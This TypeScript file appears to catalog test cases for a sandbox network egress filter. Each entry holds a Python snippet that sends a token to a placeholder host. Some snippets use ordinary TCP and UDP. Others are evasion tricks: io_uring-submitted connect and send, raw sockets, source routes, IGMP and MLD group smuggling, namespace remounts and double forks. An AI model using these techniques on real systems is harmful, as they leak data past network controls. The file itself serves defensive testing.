/** Ways out by TCP, UDP and what else travels in IP. */
import type { Way } from './way.ts';

const TCP = ['connect4', 'connect6', 'egress', 'ingress'];
const UDP = ['connect4', 'connect6', 'sendmsg4', 'sendmsg6', 'egress', 'ingress'];
const KINDS = ['sock_create', ...UDP];

export const NETWORK: readonly Way[] = [
  { row: '1', name: 'TCP over IPv4', hooks: TCP, turned: true, code: `tcp(I, FAR)` },
  { row: '1', name: 'TCP over IPv6', hooks: TCP, turned: true, code: `tcp(V, FAR6)` },
  { row: '1', name: 'TCP to a v4-mapped address', hooks: TCP, turned: true, code: `tcp(V, '::ffff:' + FAR)` },
  {
    row: '2',
    name: 'TCP Fast Open, MSG_FASTOPEN',
    hooks: TCP,
    turned: true,
    code: `s = socket.socket(); s.sendto(TOKEN, 0x20000000, (FAR, PORT)); time.sleep(0.1)`,
  },
  {
    row: '2',
    name: 'TCP Fast Open, TCP_FASTOPEN_CONNECT',
    hooks: TCP,
    turned: true,
    code: `tcp(I, FAR, prepare=lambda s: s.setsockopt(6, 30, 1))`,
  },
  {
    row: '3',
    name: 'MPTCP',
    hooks: KINDS,
    code: `s = make(I, STREAM, 262); s.settimeout(2); s.connect((FAR, PORT)); s.sendall(TOKEN); time.sleep(0.05)`,
  },
  {
    row: '4',
    name: 'io_uring: socket, connect and send without their calls',
    hooks: TCP,
    turned: true,
    launch: 'filter',
    // io_uring_setup(8): one ring of submissions, one of completions; io_uring_enter runs each entry at once.
    code: `
import mmap
class Params(ctypes.Structure): _fields_ = [('head', ctypes.c_uint32 * 10), ('sq', ctypes.c_uint32 * 10), ('cq', ctypes.c_uint32 * 10)]
p = Params()
try: ring = syscall((425, 425), 8, ctypes.byref(p))
except OSError as e:
    if e.errno == errno.ENOSYS and not HELD or e.errno == errno.EPERM and not HELD: print('IMPOSSIBLE'); sys.exit()
    raise
sq = mmap.mmap(ring, p.sq[6] + 8 * 4); cq = mmap.mmap(ring, p.cq[5] + 16 * 16, offset=0); entries = mmap.mmap(ring, 8 * 64, offset=0x10000000)
def u32(m, at, value=None):
    if value is None: return struct.unpack_from('=I', m, at)[0]
    struct.pack_into('=I', m, at, value)
def go(entry):
    tail = u32(sq, p.sq[1]); at = tail & u32(sq, p.sq[2])
    entries[at * 64:at * 64 + 64] = entry.ljust(64, b'\\0'); u32(sq, p.sq[6] + at * 4, at); u32(sq, p.sq[1], tail + 1)
    syscall((426, 426), ring, 1, 1, 1, 0, 0)
    head = u32(cq, p.cq[0]); r = struct.unpack_from('=i', cq, p.cq[5] + (head & u32(cq, p.cq[2])) * 16 + 8)[0]; u32(cq, p.cq[0], head + 1)
    if r < 0: raise OSError(-r, os.strerror(-r))
    return r
s = socket.socket(); address = ctypes.create_string_buffer(struct.pack('=H', 2) + struct.pack('!H', PORT) + socket.inet_aton(FAR) + bytes(8), 16)
data = ctypes.create_string_buffer(TOKEN, len(TOKEN))
go(struct.pack('=BBHiQQI', 16, 0, 0, s.fileno(), 16, ctypes.addressof(address), 0))
go(struct.pack('=BBHiQQI', 26, 0, 0, s.fileno(), 0, ctypes.addressof(data), len(TOKEN))); time.sleep(0.05)
`,
  },
  {
    row: '5',
    name: 'UDP, connected',
    hooks: UDP,
    code: `s = socket.socket(I, DGRAM); s.connect((FAR, PORT)); s.send(TOKEN)`,
  },
  { row: '6', name: 'UDP sendto over IPv4', hooks: UDP, code: `socket.socket(I, DGRAM).sendto(TOKEN, (FAR, PORT))` },
  { row: '6', name: 'UDP sendto over IPv6', hooks: UDP, code: `socket.socket(V, DGRAM).sendto(TOKEN, (FAR6, PORT))` },
  {
    row: '6',
    name: 'UDP sendto a v4-mapped address',
    hooks: UDP,
    code: `socket.socket(V, DGRAM).sendto(TOKEN, ('::ffff:' + FAR, PORT))`,
  },
  {
    row: '6',
    name: 'UDP sendto with AF_UNSPEC',
    hooks: UDP,
    code: `
a = struct.pack('=H', 0) + struct.pack('!H', PORT) + socket.inet_aton(FAR) + bytes(8)
s = socket.socket(I, DGRAM); libc.sendto(s.fileno(), TOKEN, len(TOKEN), 0, a, len(a))`,
  },
  { row: '6', name: 'UDP-Lite', hooks: KINDS, code: `make(I, DGRAM, 136).sendto(TOKEN, (FAR, PORT))` },
  {
    row: '7',
    name: 'ping socket, by sendto',
    hooks: KINDS,
    prepare: `
libc.unshare(0x20000); libc.mount(b'none', b'/', None, 0x44000, None); libc.mount(b'proc', b'/proc', b'proc', 0, None)
open('/proc/sys/net/ipv4/ping_group_range', 'w').write('0 100000')`,
    code: `make(I, DGRAM, 1).sendto(b'\\x08\\0\\0\\0\\0\\1\\0\\1' + TOKEN, (FAR, 0))`,
  },
  {
    row: '8',
    name: 'raw socket, ICMP',
    hooks: KINDS,
    launch: 'privileges',
    code: `socket.socket(I, RAW, 1).sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0' + TOKEN, (FAR, 0))`,
  },
  {
    row: '8',
    name: 'raw socket, a header of its own (IP_HDRINCL)',
    hooks: KINDS,
    launch: 'privileges',
    code: `
head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(TOKEN), 7, 0, 64, 253, 0, socket.inet_aton('198.51.100.17'), socket.inet_aton(FAR))
socket.socket(I, RAW, 255).sendto(head + TOKEN, (FAR, 0))`,
  },
  {
    row: '13',
    name: 'listens, and the world pulls',
    hooks: ['ingress', 'egress'],
    pull: { from: 'world', address: '198.51.100.17' },
    code: `s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen(5); print('LISTENING', s.getsockname()[1], flush=True); s.settimeout(4); s.accept()[0].sendall(TOKEN); time.sleep(0.1)`,
  },
  {
    row: '13',
    name: 'listens without bind(), and the world pulls',
    hooks: ['ingress', 'egress'],
    pull: { from: 'world', address: '198.51.100.17' },
    code: `s = socket.socket(); s.listen(5); print('LISTENING', s.getsockname()[1], flush=True); s.settimeout(4); s.accept()[0].sendall(TOKEN); time.sleep(0.1)`,
  },
  {
    row: '17',
    name: 'SCTP',
    hooks: KINDS,
    code: `s = make(I, STREAM, 132); s.settimeout(3); s.connect((FAR, PORT)); s.send(TOKEN); time.sleep(0.1)`,
  },
  { row: '19', name: 'a service of the host on 127.0.0.1', hooks: TCP, turned: true, code: `tcp(I, '127.0.0.1')` },
  { row: '19', name: 'a service of the host on ::1', hooks: TCP, turned: true, code: `tcp(V, '::1')` },
  { row: '19', name: 'a service of the host by 0.0.0.0', hooks: TCP, turned: true, code: `tcp(I, '0.0.0.0')` },
  {
    row: '21',
    name: 'SO_MARK, and a source address of its own choice',
    hooks: [...TCP, 'setsockopt'],
    code: `
def mark(s): s.setsockopt(1, 36, 7); s.bind(('198.51.100.17', 0))
tcp(I, FAR, prepare=mark)`,
  },
  {
    row: '22',
    name: 'SO_BINDTODEVICE',
    hooks: [...TCP, 'setsockopt'],
    code: `tcp(I, FAR, prepare=lambda s: s.setsockopt(1, 25, b'out\\0'))`,
  },
  {
    row: '23',
    name: 'double fork and setsid',
    hooks: TCP,
    turned: true,
    code: `
r, w = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try: tcp(I, FAR)
        except OSError: pass
    os._exit(0)
os.close(w); os.read(r, 1)`,
  },
  {
    row: 'more',
    name: 'AF_UNSPEC takes a connected socket back, and it connects elsewhere',
    hooks: TCP,
    turned: true,
    code: `
s = socket.socket(); s.settimeout(2)
try: s.connect(('127.0.0.1', 9))
except OSError: pass
unspecified = struct.pack('=H', 0) + bytes(14)
libc.connect(s.fileno(), unspecified, 16); s.connect((FAR, PORT)); s.sendall(TOKEN); time.sleep(0.05)`,
  },
  {
    row: 'more',
    name: 'UDP connected to one address, then sendto another',
    hooks: UDP,
    code: `
s = socket.socket(I, DGRAM)
try: s.connect(('198.51.100.17', 53))
except OSError: pass
s.sendto(TOKEN, (FAR, PORT))`,
  },
  {
    row: 'more',
    name: 'UDP to port 53 of an outside host',
    hooks: UDP,
    code: `socket.socket(I, DGRAM).sendto(TOKEN, (FAR, 53))`,
  },
  {
    row: 'more',
    name: 'sendmmsg, several addresses in one call',
    hooks: UDP,
    code: `
class Iov(ctypes.Structure): _fields_ = [('base', ctypes.c_char_p), ('len', ctypes.c_size_t)]
class Msg(ctypes.Structure): _fields_ = [('name', ctypes.c_char_p), ('namelen', ctypes.c_uint32), ('iov', ctypes.POINTER(Iov)), ('iovlen', ctypes.c_size_t), ('control', ctypes.c_void_p), ('controllen', ctypes.c_size_t), ('flags', ctypes.c_int)]
class Many(ctypes.Structure): _fields_ = [('msg', Msg), ('sent', ctypes.c_uint32)]
def many(address, port):
    a = struct.pack('=H', 2) + struct.pack('!H', port) + socket.inet_aton(address) + bytes(8)
    return Many(Msg(a, 16, ctypes.pointer(Iov(TOKEN, len(TOKEN))), 1, None, 0, 0), 0)
s = socket.socket(I, DGRAM); libc.sendmmsg(s.fileno(), (Many * 2)(many(FAR, PORT), many(FAR, PORT)), 2, 0)`,
  },
  {
    row: 'more',
    name: 'UDP in fragments',
    hooks: UDP,
    code: `socket.socket(I, DGRAM).sendto(TOKEN + bytes(4000), (FAR, PORT))`,
  },
  {
    row: 'more',
    name: 'broadcast',
    hooks: UDP,
    code: `s = socket.socket(I, DGRAM); s.setsockopt(1, 6, 1); s.sendto(TOKEN, ('198.51.100.255', PORT))`,
  },
  {
    row: 'more',
    name: 'multicast DNS',
    hooks: UDP,
    code: `socket.socket(I, DGRAM).sendto(TOKEN, ('224.0.0.251', 5353))`,
  },
  {
    row: 'more',
    name: 'the group of an IGMP report, which the kernel sends',
    hooks: ['setsockopt'],
    code: `
group = bytes([239]) + bytes.fromhex(TOKEN[6:].decode())[1:]
s = socket.socket(I, DGRAM); s.setsockopt(0, 35, group + socket.inet_aton('198.51.100.17')); time.sleep(0.2)`,
  },
  {
    row: 'more',
    name: 'the group of an MLD report, which the kernel sends',
    hooks: ['setsockopt'],
    code: `
group = bytes.fromhex('ff0e') + bytes(10) + bytes.fromhex(TOKEN[6:].decode())
s = socket.socket(V, DGRAM); s.setsockopt(41, 20, group + struct.pack('=I', socket.if_nametoindex('out'))); time.sleep(1.5)`,
  },
  {
    row: 'more',
    name: 'a routing header, as ancillary data past setsockopt',
    hooks: UDP,
    // Type 2 of mobile IPv6 (RFC 6275): the datagram goes to the first address and bears the second.
    code: `
header = bytes([0, 2, 2, 1, 0, 0, 0, 0]) + socket.inet_pton(V, FAR6)
s = socket.socket(V, DGRAM)
try: s.sendmsg([TOKEN], [(41, 57, header)], 0, (FAR6, PORT))
except OSError as e:
    if e.errno == errno.EINVAL: print('IMPOSSIBLE')
    raise`,
  },
  {
    row: 'more',
    name: 'a source route in an IPv4 option',
    hooks: [...UDP, 'setsockopt'],
    code: `
s = socket.socket(I, DGRAM); s.setsockopt(0, 4, bytes([0x83, 7, 4]) + socket.inet_aton(FAR) + b'\\0'); s.sendto(TOKEN, (FAR, PORT))`,
  },
  {
    row: 'more',
    name: 'DCCP',
    hooks: [...KINDS, 'setsockopt'],
    code: `
s = make(I, 6, 33)
try: s.setsockopt(269, 2, struct.pack('!I', 0x544f4b45)); s.settimeout(1); s.connect((FAR, PORT))
except TimeoutError: print('ESCAPED')
except ConnectionError: print('ESCAPED')`,
  },
  {
    row: 'more',
    name: 'raw IPv6 in IPv4 (6in4)',
    hooks: KINDS,
    launch: 'privileges',
    code: `socket.socket(I, RAW, 41).sendto(TOKEN, (FAR, 0))`,
  },
  {
    row: 'more',
    name: 'listens, and a process of the host pulls on loopback',
    hooks: ['ingress', 'egress'],
    pull: { from: 'host', address: '127.0.0.1' },
    code: `s = socket.socket(); s.listen(5); print('LISTENING', s.getsockname()[1], flush=True); s.settimeout(4); s.accept()[0].sendall(TOKEN); time.sleep(0.1)`,
  },
  {
    row: 'more',
    name: 'UDP to a service of the host on loopback',
    hooks: UDP,
    code: `socket.socket(I, DGRAM).sendto(TOKEN, ('127.0.0.1', PORT))`,
  },
  {
    row: 'more',
    name: "another process of the session listens at the daemon's port on a loopback address of its own",
    hooks: ['bind4', 'bind6'],
    code: `s = socket.socket(); s.bind(('127.0.0.2', DAEMON)); s.listen(1); print('ESCAPED')`,
  },
];
